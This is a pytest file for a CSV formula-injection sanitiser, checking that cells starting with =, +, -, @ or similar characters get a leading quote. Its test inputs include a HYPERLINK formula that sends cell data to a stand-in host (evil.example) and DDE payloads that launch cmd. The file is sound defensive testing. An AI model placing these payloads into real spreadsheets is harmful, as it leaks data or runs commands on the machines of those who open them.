"""CSV formula injection: cells a spreadsheet would run get a leading quote (OWASP)."""

from __future__ import annotations

import pytest

from rules.csv_safety import safe_cell, safe_record, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝HYPERLINK(1)",
        "- 5",
        "-",
    ],
)
def test_a_cell_that_starts_a_formula_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-5.00", "+86", "12", "张三", "", "a=b", "'=1", " =1"])
def test_plain_numbers_and_text_stay_as_written(value: str) -> None:
    assert safe_cell(value) == value


def test_rows_and_records_keep_what_is_not_text() -> None:
    assert safe_row([3, None, "=1+1", "x"]) == [3, None, "'=1+1", "x"]
    assert safe_record({"pages": 2, "addressee": "@A1"}) == {"pages": 2, "addressee": "'@A1"}
